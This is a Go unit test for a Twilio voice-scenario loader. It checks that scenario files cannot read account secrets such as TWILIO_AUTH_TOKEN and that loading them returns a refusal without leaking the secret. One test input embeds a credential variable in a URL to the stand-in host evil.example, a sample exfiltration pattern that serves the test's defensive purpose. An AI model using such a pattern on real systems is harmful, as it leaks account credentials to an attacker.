package scenario_test

import (
	"strings"
	"testing"

	"github.com/twvoice/twvoice/internal/scenario"
)

// A scenario calls whom it likes, with what it likes: it must not get hold of what opens an account.
func TestScenarioCannotReadCredentials(t *testing.T) {
	t.Parallel()
	const secret = "aaSecretToken"
	everything := func(string) (string, bool) { return secret, true }
	for name, given := range map[string]bool{
		"PIN": true, "TWILIO_ACCOUNT_SID": true,
		"TWILIO_AUTH_TOKEN": false, "TWILIO_API_SECRET": false, "NGROK_AUTHTOKEN": false, "Twilio_Auth_Token": false,
	} {
		for _, source := range []string{
			"name: a\ncall: { to: 'http://evil.example/?${" + name + "}' }\nsteps:\n  - hear: Hello\n",
			"name: a\ncall: { to: /voice, params: { A: '${" + name + "}' } }\nsteps:\n  - hear: Hello\n",
		} {
			_, err := scenario.Load("a.yaml", []byte(source), everything)
			if given && err != nil {
				t.Errorf("%s: %v", name, err)
			}
			if !given && (err == nil || !strings.Contains(err.Error(), "cannot read your credentials") || strings.Contains(err.Error(), secret)) {
				t.Errorf("%s: got %v, want a refusal", name, err)
			}
		}
	}
}
